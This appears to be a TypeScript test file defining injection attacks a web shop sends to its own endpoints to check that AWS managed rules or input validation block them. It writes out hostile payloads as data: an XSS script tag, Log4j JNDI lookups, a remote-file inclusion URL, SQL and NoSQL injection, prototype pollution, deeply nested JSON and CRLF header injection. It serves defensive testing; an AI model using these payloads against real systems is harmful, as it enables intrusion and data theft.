import type { AttackGroup, Defence } from '../attack.ts';
import { json, order } from '../order.ts';

const blocked = { statuses: [403] } as const;
const core: Defence = { rule: 'AWSManagedRulesCommonRuleSet' };
const elsewhere: Defence = { rule: 'managed-rules-elsewhere' };
const inputs: Defence = { rule: 'AWSManagedRulesKnownBadInputsRuleSet' };
const form: Defence = { check: 'form' };
const cards: Defence = { check: 'cards' };
const script = '<script>alert("hello")</script>';

/** What of an injection AWS documents that a managed rule blocks, and what functions make of the rest. */
export const injection: AttackGroup = {
  title: 'Injection',
  attacks: [
    {
      name: 'a script in a query',
      sent: [{ path: `/?q=${encodeURIComponent(script)}` }],
      expected: blocked,
      defence: elsewhere,
    },
    {
      name: 'a script in a cookie',
      sent: [{ path: '/', headers: { cookie: `a=${script}` } }],
      expected: blocked,
      defence: core,
    },
    {
      name: 'a script in an order',
      sent: [json('/api/session', `{"name":"<script>alert(\u0022hello\u0022)</script>"}`)],
      expected: blocked,
      defence: elsewhere,
    },
    {
      name: 'a look-up of Log4j in a header',
      sent: [{ path: '/', headers: { 'x-api-version': '${jndi:ldap://example.com/}' } }],
      expected: blocked,
      defence: inputs,
    },
    {
      name: 'a look-up of Log4j in an order',
      sent: [json('/api/session', { ...order, name: '${jndi:ldap://example.com/}' })],
      expected: blocked,
      defence: elsewhere,
    },
    {
      name: 'a file of another server in a query',
      sent: [{ path: '/?page=http://203.0.113.7/shell.txt' }],
      expected: blocked,
      defence: elsewhere,
    },
    {
      name: 'a scanner that says so',
      sent: [{ path: '/', headers: { 'user-agent': 'nmap' } }],
      expected: blocked,
      defence: elsewhere,
    },
    {
      name: 'a client that does not say who it is',
      sent: [{ path: '/', headers: { 'user-agent': '' } }],
      expected: blocked,
      defence: elsewhere,
    },
    {
      name: 'SQL in the name of a product',
      sent: [json('/api/price', { currency: 'EUR', items: [{ slug: "x' OR 1=1 --", quantity: 1 }] })],
      expected: { statuses: [400] },
      defence: form,
    },
    {
      name: 'an operator of a database in place of a name',
      sent: [json('/api/payment-state', '{"checkout":{"$gt":""}}')],
      expected: { statuses: [400] },
      defence: { check: 'checkout' },
    },
    {
      name: 'a prototype in JSON',
      sent: [json('/api/session', '{"__proto__":{"name":"x"},"constructor":{"prototype":{"a":1}}}')],
      expected: { statuses: [400] },
      defence: form,
    },
    {
      name: 'JSON that is nested four thousand times',
      sent: [json('/api/session', `${'['.repeat(4000)}${']'.repeat(4000)}`)],
      expected: { statuses: [400, 422] },
      defence: cards,
      also: form,
    },
    {
      name: 'a header in a path',
      sent: [{ path: '/%0d%0aset-cookie:%20stolen=1' }],
      expected: { statuses: [301, 400, 403, 404], lacks: 'set-cookie' },
      defence: { edge: 'functions' },
    },
  ],
};
